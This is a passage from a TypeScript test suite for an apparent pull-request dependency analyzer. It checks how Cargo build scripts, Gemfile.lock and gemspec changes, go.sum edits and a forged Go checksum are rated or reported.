    expect(severities(cfgOnly)).toEqual([
      ['Cargo.toml', 'low'],
      ['build.rs', 'low'],
    ]);
  });

  it('stays medium when the script runs a process, writes files or uses a build dependency', () => {
    const probe = cfgOnly.replace('use std::env;', 'use std::env;\nuse std::process::Command;').replace('fn main() {', 'fn main() {\n    let _ = Command::new(env::var("RUSTC").unwrap()).arg("--version").output();');
    expect(severities(probe)).toEqual([
      ['Cargo.toml', 'medium'],
      ['build.rs', 'medium'],
    ]);
    expect(severities(cfgOnly.replace('fn main() {', 'fn main() {\n    cc::Build::new().file("src/shim.c").compile("shim");')).map(([, s]) => s)).toEqual(['medium', 'medium']);
  });

  it('stays medium for a script the PR does not add (its text is not all in the diff)', () => {
    const found = analyze(snapshotOf(change('Cargo.toml', manifest(''), manifest('build = "tools/gen.rs"\n')))).findings.filter((f) => f.id === 'cargo-build-script');
    expect(found.map((f) => f.severity)).toEqual(['medium']);
  });
});

describe("lockfile-without-manifest and the repository's own packages (2026-11-30)", () => {
  // Modeled on an authentication library's "Release v5.0.3": lib/devise/version.rb and Gemfile.lock's PATH section move together.
  const gemfileLock = (own: string, rack = '3.1.8', remote = 'https://rubygems.org/') =>
    ['PATH', '  remote: .', '  specs:', `    warden-auth (${own})`, '      rack (>= 3.0)', '', 'GEM', `  remote: ${remote}`, '  specs:', `    rack (${rack})`, '', 'PLATFORMS', '  ruby', '', 'DEPENDENCIES', '  warden-auth!', '', 'BUNDLED WITH', '   2.6.9', ''].join('\n');

  it("does not report a lockfile whose only change is the repository's own local package (its version, its constraints) or its spacing", () => {
    expect(ids(snapshotOf(change('Gemfile.lock', gemfileLock('5.0.2'), gemfileLock('5.0.3'))))).not.toContain('lockfile-without-manifest');
    expect(ids(snapshotOf(change('Gemfile.lock', gemfileLock('5.0.2'), gemfileLock('5.0.2').replace('   2.6.9', '  2.6.9'))))).not.toContain('lockfile-without-manifest');
  });

  it('still reports a registry package moved, or another remote, beside the own package', () => {
    expect(ids(snapshotOf(change('Gemfile.lock', gemfileLock('5.0.2'), gemfileLock('5.0.3', '3.1.9'))))).toContain('lockfile-without-manifest');
    expect(ids(snapshotOf(change('Gemfile.lock', gemfileLock('5.0.2'), gemfileLock('5.0.3', '3.1.8', 'https://gems.example.net/'))))).toContain('lockfile-without-manifest');
  });
});

describe("lockfile-without-manifest beside the gemspec of the repository's own gem (calib57)", () => {
  // Modeled on a test-data library's "add ostruct as a development dependency": the gemspec and Gemfile.lock move together, the Gemfile (`gemspec`) does not.
  const gemfileLock = (extra: string[]) =>
    ['PATH', '  remote: .', '  specs:', '    factory_kit (6.5.0)', '      activesupport (>= 6.1.0)', '', 'GEM', '  remote: https://rubygems.org/', '  specs:', '    activesupport (7.1.3)', ...extra, '', 'PLATFORMS', '  ruby', '', 'DEPENDENCIES', '  factory_kit!', '', 'BUNDLED WITH', '   2.6.9', ''].join('\n');
  const gemspec = (extra: string[]) => ['Gem::Specification.new do |s|', '  s.name = "factory_kit"', '  s.add_dependency("activesupport", ">= 6.1.0")', ...extra, 'end', ''].join('\n');
  const lockChange = change('Gemfile.lock', gemfileLock([]), gemfileLock(['    ostruct (0.6.1)']));

  it("does not report a lockfile whose own gem's gemspec changes beside it", () => {
    expect(ids(snapshotOf(lockChange, change('factory_kit.gemspec', gemspec([]), gemspec(['  s.add_development_dependency("ostruct")']))))).not.toContain('lockfile-without-manifest');
  });

  it("still reports it beside another gem's gemspec, a gemspec of another folder, or none", () => {
    expect(ids(snapshotOf(lockChange, change('other_kit.gemspec', gemspec([]), gemspec(['  s.add_development_dependency("ostruct")']))))).toContain('lockfile-without-manifest');
    expect(ids(snapshotOf(change('app/Gemfile.lock', gemfileLock([]), gemfileLock(['    ostruct (0.6.1)'])), change('factory_kit.gemspec', gemspec([]), gemspec(['  s.add_development_dependency("ostruct")']))))).toContain('lockfile-without-manifest');
    expect(ids(snapshotOf(lockChange))).toContain('lockfile-without-manifest');
  });
});

describe('lockfile-without-manifest and Go checksums (calib17, 2026-11-29)', () => {
  const sum = (...rows: string[]) => `${rows.join('\n')}\n`;
  const a = 'github.com/acme/left v1.2.0 h1:Qm0mUzdkE1pLr9Lk0m3Jz6lY1tV8cWw0oNn2Zt4Sx0E=';
  const b = 'github.com/acme/right v0.4.1 h1:Zx1vJb3yU7dPq2Ww5Lk8Nn4Ho6Tt9Rr0Ss2Ff1Gg3Hh=';

  it('does not report go.sum lines added or dropped without go.mod (go mod tidy); still reports other lockfiles', () => {
    expect(ids(snapshotOf(change('go.sum', sum(a), sum(a, b))))).not.toContain('lockfile-without-manifest');
    expect(ids(snapshotOf(change('tools/go.sum', sum(a, b), sum(a))))).not.toContain('lockfile-without-manifest');
    expect(ids(snapshotOf(change('package-lock.json', npmLock(['x'], { x: { version: '1.0.0' } }), npmLock(['x'], { x: { version: '1.0.1' } }))))).toContain('lockfile-without-manifest');
  });

  it('still reports a checksum replaced for the same version', () => {
    const forged = 'github.com/acme/left v1.2.0 h1:AAAAUzdkE1pLr9Lk0m3Jz6lY1tV8cWw0oNn2Zt4SAAA=';
    expect(ids(snapshotOf(change('go.sum', sum(a, b), sum(forged, b))))).toContain('lockfile-integrity-changed');
  });
});
